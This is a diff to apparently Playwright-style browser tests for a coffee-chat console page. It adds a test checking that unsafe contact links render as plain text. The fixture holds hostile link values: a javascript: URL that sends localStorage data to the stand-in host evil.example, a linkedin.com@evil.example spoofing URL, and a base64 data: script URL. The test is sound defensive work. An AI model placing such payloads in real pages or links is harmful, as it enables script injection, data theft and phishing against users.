@@ -34,6 +34,29 @@ test('[OFR-13] the list leads to each, where the contact is', async ({ api, open
   await expectAccessible()
 })
 
+test('[VAL-8] links open elsewhere, and what is no web address is text', async ({ api, open }) => {
+  const script = 'javascript:fetch("//evil.example/"+localStorage.length)'
+  const pretending = 'https://linkedin.com@evil.example/in/gaon'
+  const page64 = 'data:text/html;base64,PHNjcmlwdD4='
+  api.answers(
+    'GET /console/coffeechats/:id',
+    coffeechat({
+      disclosure: [
+        { kind: 'GITHUB', text: 'https://github.com/gaon', url: 'https://github.com/gaon' },
+        { kind: 'RESUME_LINK', text: script, url: script },
+        { kind: 'PORTFOLIO_LINK', text: page64, url: page64 },
+        { kind: 'LINKEDIN', text: pretending, url: pretending },
+      ],
+    }),
+  )
+  await open(`/coffeechats/${COFFEECHAT}`)
+  const shared = page.getByRole('region', { name: '연락처와 자료' })
+  for (const text of [script, page64, pretending]) await expect.element(shared.getByText(text)).toBeVisible()
+  await expect.element(shared.getByRole('link')).toHaveLength(1)
+  await expect.element(shared.getByRole('link')).toHaveAttribute('href', 'https://github.com/gaon')
+  await expect.element(shared.getByRole('link')).toHaveAttribute('rel', 'noopener noreferrer')
+})
+
 test('[TRUST-4] times are proposed, up to five of them', async ({ api, open }) => {
   api.answers('GET /console/coffeechats/:id', coffeechat())
   api.answers('POST /console/coffeechats/:id/times', coffeechat({ status: 'PROPOSED', timeItems: times }))
@@ -67,7 +90,7 @@ test('[TRUST-4] one of the candidate’s times is taken', async ({ api, open }) 
   await open(`/coffeechats/${COFFEECHAT}`)
   await page.getByRole('button', { name: '이 시간에 만나요' }).click()
   await expect.element(toast('만날 시간을 정했어요')).toBeVisible()
-  await expect.element(page.getByRole('region', { name: '만날 시간이에요' })).toMatchTextContent('오후 2:00')
+  await expect.element(page.getByRole('region', { name: '이때 만나요' })).toMatchTextContent('오후 2:00')
   expect(
     api.sent('POST /console/coffeechats/:id/times/:timeId/confirm').map(({ params }) => params.timeId),
   ).toEqual([theirs.id])
